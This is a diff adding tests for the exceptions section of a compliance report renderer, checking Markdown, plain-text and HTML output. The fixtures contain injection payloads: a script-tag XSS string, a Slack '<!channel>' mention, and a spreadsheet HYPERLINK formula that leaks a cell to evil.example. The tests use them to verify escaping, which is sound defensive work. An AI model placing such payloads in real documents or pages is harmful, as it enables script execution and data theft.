@@ -277,6 +277,75 @@ describe('achieved RPO', () => {
   });
 });
 
+describe('exceptions', () => {
+  const base = sampleReport();
+  const empty: ComplianceReport = { ...base, exceptions: { silences: [], exclusions: [], disabledRules: [] } };
+  const section = (md: string): string => md.slice(md.indexOf('## Exceptions'), md.indexOf('## Targets'));
+
+  it('lists silences with who, why, window, matchers and held-back count, exclusions and disabled rules in Markdown', () => {
+    const md = section(renderMarkdown(base));
+    expect(md).toContain('| #7 | target evil-\\<script\\>alert("x")\\</script\\>');
+    expect(md).toContain(
+      '| 2026-11-10 09:00 | 2026-11-12 09:00 (expired early) | \\<!channel\\> \\<http://evil.example\\|click me\\> \\& more',
+    );
+    expect(md).toMatch(
+      /\| \\<script\\>alert\("x"\)\\<\/script\\> \\\*\\\*bold\\\*\\\* \\\[link\\\]\(http:\/\/evil\.example\) \\\| cell .*… \| 3 \|/,
+    );
+    expect(md).toContain('| =HYPERLINK("http://evil.example/?leak="\\&A1,"click") | rm-legacy-\\* | no reason given |');
+    expect(md).toContain('| size-anomaly | rules.size-anomaly | 1: orders-pg |');
+    expect(md).toContain('| size-anomaly | targets\\[0\\].rules.size-anomaly | 1: evil-\\<script\\>');
+  });
+
+  it('keeps every row of the Markdown exception tables as wide as its header, whatever the text holds', () => {
+    const md = section(renderMarkdown(base));
+    for (const table of md.split('### ').slice(1)) {
+      const cells = table
+        .split('\n')
+        .filter((l) => l.startsWith('|'))
+        .map((l) => l.replace(/\\\|/g, '').split('|').length);
+      expect(new Set(cells).size).toBe(1);
+    }
+    expect(md).not.toContain('<script>');
+    expect(md).not.toMatch(CONTROL);
+  });
+
+  it('writes the exceptions as typed, without escapes, in the plain-text variant', () => {
+    const text = section(renderMarkdown(base, { plain: true }));
+    expect(text).toContain('<!channel> <http://evil.example|click me> & more');
+    expect(text).toContain('| rm-legacy-* | no reason given |');
+    expect(text).not.toMatch(CONTROL);
+  });
+
+  it('lists them in HTML with every text escaped', () => {
+    const html = renderHtml(base);
+    const part = html.slice(html.indexOf('Exceptions</h2>'), html.indexOf('Targets</h2>'));
+    expect(part).toContain('#7 target evil-&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
+    expect(part).toContain('<b>&lt;!channel&gt; &lt;http://evil.example|click me&gt; &amp; more');
+    expect(part).toContain('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;click&quot;) / rm-legacy-*');
+    expect(part).toContain('no reason given');
+    expect(part).toContain('targets[0].rules.size-anomaly');
+    expect(part).not.toMatch(/<(script|img|a)\b/i);
+    expect(part).not.toContain('END-OF-HUGE');
+  });
+
+  it('says "none" for each empty list', () => {
+    const md = section(renderMarkdown(empty));
+    expect(md).toContain('### Silences\n\nNone: no silence was in force during the period.');
+    expect(md).toContain('### Excluded from coverage\n\nNone.');
+    expect(md).toContain('### Disabled rules\n\nNone: every rule is enabled for every target.');
+    const html = renderHtml(empty);
+    expect(html).toContain('>None: no silence was in force during the period.</p>');
+    expect(html).toContain('>None.</p>');
+    expect(html).toContain('>None: every rule is enabled for every target.</p>');
+  });
+
+  it('groups a rule disabled for many targets by where, naming the first few', () => {
+    const many = Array.from({ length: 12 }, (_, i) => ({ target: `db-${i}`, rule: 'retention', where: 'rules.retention' }));
+    const md = renderMarkdown({ ...base, exceptions: { ...base.exceptions, disabledRules: many } });
+    expect(md).toContain('| retention | rules.retention | 12: db-0, db-1, db-2, db-3, db-4 and 7 more |');
+  });
+});
+
 describe('numbers as people read them', () => {
   it('never rounds an incomplete share up to 100%', () => {
     expect(pct(0.99995)).toBe('99.9%');
